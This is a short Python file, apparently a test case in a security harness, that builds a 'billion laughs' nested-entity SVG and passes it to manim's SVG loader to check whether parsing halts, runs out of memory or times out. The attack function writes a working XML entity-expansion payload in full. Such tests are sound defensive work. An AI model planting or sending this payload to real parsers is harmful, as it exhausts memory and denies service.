"""Gives manim a drawing whose entities unfold to a billion words (the "billion laughs").

A kilobyte of XML becomes gigabytes of text.
"""

from xml.etree.ElementTree import ParseError

from manim import SVGMobject

EXPECT = {"stopped", "out_of_memory", "timeout"}
BARE = {"stopped", "out_of_memory", "timeout"}
REQUEST = {"timeout": 3}


def attack(target):
    entities = '<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 11))
    with open("laughs.svg", "w") as file:
        file.write(f"<!DOCTYPE svg [{entities}]><svg xmlns='http://www.w3.org/2000/svg'><text>&a10;</text></svg>")
    try:
        return len(SVGMobject("laughs.svg"))
    except ParseError:
        return None
